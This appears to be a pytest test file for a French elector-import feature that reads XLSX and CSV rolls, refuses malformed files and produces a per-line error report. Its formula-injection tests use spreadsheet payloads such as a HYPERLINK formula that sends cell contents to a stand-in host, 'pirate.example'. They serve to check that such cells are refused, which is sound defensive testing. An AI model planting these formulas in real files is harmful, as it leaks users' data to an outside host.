"""Importing electors from an Excel workbook (XLSX), refusing files that are not one, refusing
cells a spreadsheet would run as formulas, and the per-line error report staff download."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tests.campaign.conftest import HEADER, csv_text
from urne.campaign.import_parse import count_lines
from urne.campaign.imports import ElectorImportRejected, do_import_electors
from urne.campaign.models import Academy, Campaign, Elector, RollEntry, Scrutin

pytestmark = pytest.mark.usefixtures("importable_campaign")

COLUMNS = HEADER.split(";")
BOB = [
    "M.",
    "Bob",
    "Martin",
    "bob.martin@ac-dijon.fr",
    "Professeur certifié",
    "Classe normale",
    "Lycée Carnot, Dijon",
    "dijon",
    "csa-men|capa-certifies-dijon",
]
ALICE = [
    "Mme",
    "Alice",
    "Durand",
    "alice.durand@ac-dijon.fr",
    "Professeur des écoles",
    None,  # an empty cell, as a spreadsheet leaves it
    "École Jules-Ferry, Beaune",
    "dijon",
    "csa-men",
]


@pytest.fixture
def scrutins(csa_national: Scrutin, capa_dijon: Scrutin, lyon: Academy) -> dict[str, Scrutin]:
    return {"csa-men": csa_national, "capa-certifies-dijon": capa_dijon}


def workbook(*rows: list[Any], header: list[str] = COLUMNS) -> io.BytesIO:
    """An .xlsx file as a spreadsheet saves it: the header, then one elector a row."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    out.seek(0)
    return out


def rejected(campaign: Campaign, source: Any, name: str = "") -> list[str]:
    with pytest.raises(ElectorImportRejected) as caught:
        do_import_electors(campaign, source, name=name)
    return [str(issue) for issue in caught.value.report.errors]


def test_it_imports_a_workbook_like_the_csv(
    campaign: Campaign, scrutins: dict[str, Scrutin]
) -> None:
    report = do_import_electors(campaign, workbook(BOB, ALICE), name="electeurs.xlsx")

    assert (report.lines, report.created, report.roll_added) == (2, 2, 3)
    alice = Elector.objects.get(email="alice.durand@ac-dijon.fr")
    assert (alice.grade, alice.establishment) == ("", "École Jules-Ferry, Beaune")
    assert set(
        RollEntry.objects.filter(elector__email="bob.martin@ac-dijon.fr").values_list(
            "scrutin__code", flat=True
        )
    ) == {"csa-men", "capa-certifies-dijon"}


def test_a_workbook_file_on_disk_is_read_by_a_child_process_with_the_same_result(
    campaign: Campaign, scrutins: dict[str, Scrutin], tmp_path: Path
) -> None:
    path = tmp_path / "electeurs.xlsx"
    path.write_bytes(workbook(BOB, ALICE).getvalue())

    with path.open("rb") as source:
        report = do_import_electors(campaign, source)

    assert (report.lines, report.created, report.roll_added) == (2, 2, 3)
    assert Elector.objects.get(email="alice.durand@ac-dijon.fr").grade == ""


def test_a_broken_workbook_file_on_disk_is_refused(campaign: Campaign, tmp_path: Path) -> None:
    """A zip with a workbook's first part but no sheet: the child process gives up."""
    path = tmp_path / "electeurs.xlsx"
    with zipfile.ZipFile(path, "w") as out:
        out.writestr("[Content_Types].xml", "<Types/>")

    with path.open("rb") as source:
        messages = rejected(campaign, source, name="electeurs.xlsx")

    assert messages == [
        "le fichier « electeurs.xlsx » n'est pas un classeur Excel (XLSX) lisible : "
        "enregistrez-le depuis le tableur au format « Classeur Excel (.xlsx) », ou en "
        "« CSV UTF-8 »"
    ]


def test_importing_the_same_workbook_again_changes_nothing(
    campaign: Campaign, scrutins: dict[str, Scrutin]
) -> None:
    do_import_electors(campaign, workbook(BOB, ALICE))

    report = do_import_electors(campaign, workbook(BOB, ALICE))

    assert (report.created, report.updated, report.unchanged) == (0, 0, 2)
    assert (report.roll_added, report.roll_removed) == (0, 0)
    assert Elector.objects.count() == 2


def test_birth_dates_are_read_from_date_cells_and_from_text(
    campaign: Campaign, scrutins: dict[str, Scrutin]
) -> None:
    header = [*COLUMNS, "date_naissance"]

    do_import_electors(
        campaign,
        workbook([*BOB, datetime(1980, 3, 14)], [*ALICE, "02/11/1975"], header=header),
    )

    born = dict(Elector.objects.values_list("first_name", "birth_date"))
    assert born == {"Bob": date(1980, 3, 14), "Alice": date(1975, 11, 2)}


def test_a_number_cell_is_read_as_its_digits(campaign: Campaign, dijon: Academy) -> None:
    """Academy codes such as 21 (a department) are typed as numbers in a spreadsheet."""
    Academy.objects.filter(pk=dijon.pk).update(code="21")
    line = [*BOB[:7], 21, ""]

    do_import_electors(campaign, workbook(line))

    assert Elector.objects.get().academy_id == dijon.pk


def test_a_bad_row_of_a_workbook_is_reported_at_its_row(
    campaign: Campaign, scrutins: dict[str, Scrutin]
) -> None:
    bad = [*BOB[:7], "paris", BOB[8]]

    assert rejected(campaign, workbook(ALICE, bad)) == [
        "ligne 3 : code d'académie inconnu « paris »"
    ]
    assert Elector.objects.count() == 0


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (csv_text(";".join(str(c) for c in BOB)).encode(), "electeurs.xlsx"),
        (b"", "electeurs.xlsx"),
    ],
    ids=["csv-renamed", "empty"],
)
def test_a_file_named_xlsx_that_is_not_a_workbook_is_refused(
    campaign: Campaign, scrutins: dict[str, Scrutin], content: bytes, name: str
) -> None:
    assert rejected(campaign, io.BytesIO(content), name=name) == [
        "le fichier « electeurs.xlsx » n'est pas un classeur Excel (XLSX) lisible : "
        "enregistrez-le depuis le tableur au format « Classeur Excel (.xlsx) », ou en "
        "« CSV UTF-8 »"
    ]


def test_a_zip_that_is_not_a_workbook_is_refused(campaign: Campaign) -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr("electeurs.csv", csv_text(";".join(str(c) for c in BOB)))
    archive.seek(0)

    messages = rejected(campaign, archive, name="electeurs.zip")

    assert messages == [
        "le fichier « electeurs.zip » n'est pas un classeur Excel (XLSX) lisible : "
        "enregistrez-le depuis le tableur au format « Classeur Excel (.xlsx) », ou en "
        "« CSV UTF-8 »"
    ]


def test_an_old_xls_workbook_is_refused_with_what_to_do(campaign: Campaign) -> None:
    old = io.BytesIO(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512)

    (message,) = rejected(campaign, old, name="electeurs.xls")

    assert message.startswith("le fichier est un classeur Excel de l'ancien format (.xls)")


def test_a_workbook_on_standard_input_is_refused(campaign: Campaign) -> None:
    lines = workbook(BOB).getvalue().splitlines(keepends=True)

    (message,) = rejected(campaign, iter(lines))

    assert message.startswith("le fichier est un classeur (XLSX) : donnez-le comme un fichier")


def test_a_csv_from_a_pipe_is_read_without_going_back(
    campaign: Campaign, scrutins: dict[str, Scrutin]
) -> None:
    """Standard input (`urne import_electors 1 -`) cannot seek: it is read as a CSV."""
    read, write = os.pipe()
    os.write(write, csv_text(";".join(str(c) for c in BOB)).encode())
    os.close(write)

    with os.fdopen(read, "rb") as pipe:
        report = do_import_electors(campaign, pipe)

    assert report.created == 1


# Formulas: a cell a spreadsheet would run is refused at import (exports neutralise them too)


@pytest.mark.parametrize(
    ("column", "value"),
    [
        (2, '=HYPERLINK("http://pirate.example/?"&A1;"Martin")'),
        (1, "+33 Bob"),
        (6, "@SUM(A1)"),
        (4, "-Professeur"),
    ],
    ids=["hyperlink", "plus", "at", "minus"],
)
def test_a_formula_in_a_csv_cell_is_refused(
    campaign: Campaign, scrutins: dict[str, Scrutin], column: int, value: str
) -> None:
    cells = list(BOB)
    cells[column] = value
    line = ";".join(
        '"' + str(c).replace('"', '""') + '"' if (";" in str(c) or '"' in str(c)) else str(c)
        for c in cells
    )

    messages = rejected(campaign, io.BytesIO(csv_text(line).encode()))

    assert messages == [
        f"ligne 2 : le champ « {COLUMNS[column]} » commence par « {value[0]} » : un tableur le "
        "prendrait pour une formule (refusé ; écrivez-le sans ce signe en tête)"
    ]
    assert Elector.objects.count() == 0


def test_a_formula_cell_of_a_workbook_is_refused(
    campaign: Campaign, scrutins: dict[str, Scrutin]
) -> None:
    cells = list(BOB)
    cells[2] = '=HYPERLINK("http://pirate.example","Martin")'

    assert rejected(campaign, workbook(cells)) == [
        "ligne 2 : le champ « nom » commence par « = » : un tableur le prendrait pour une "
        "formule (refusé ; écrivez-le sans ce signe en tête)"
    ]


# The error report


def test_the_error_report_lists_line_column_and_message_safe_for_a_spreadsheet(
    campaign: Campaign, scrutins: dict[str, Scrutin]
) -> None:
    bad_email = [*BOB[:3], "bob.martin", *BOB[4:]]
    formula = [*ALICE[:2], "=1+1", *ALICE[3:]]
    with pytest.raises(ElectorImportRejected) as caught:
        do_import_electors(campaign, workbook(bad_email, formula))

    rows = list(csv.reader(io.StringIO(caught.value.report.errors_csv()), delimiter=";"))

    assert rows == [
        ["ligne", "colonne", "message"],
        ["2", "email", "adresse de messagerie invalide « bob.martin »"],
        [
            "3",
            "nom",
            "le champ « nom » commence par « = » : un tableur le prendrait pour une formule "
            "(refusé ; écrivez-le sans ce signe en tête)",
        ],
    ]


def test_the_lines_of_a_file_are_counted_for_the_progress(
    campaign: Campaign, scrutins: dict[str, Scrutin]
) -> None:
    assert count_lines(io.BytesIO(csv_text("a", "b", "c").encode())) == 3
    assert count_lines(io.BytesIO((HEADER + "\r\na\r\nb").encode())) == 2
    assert count_lines(workbook(BOB, ALICE)) == 2
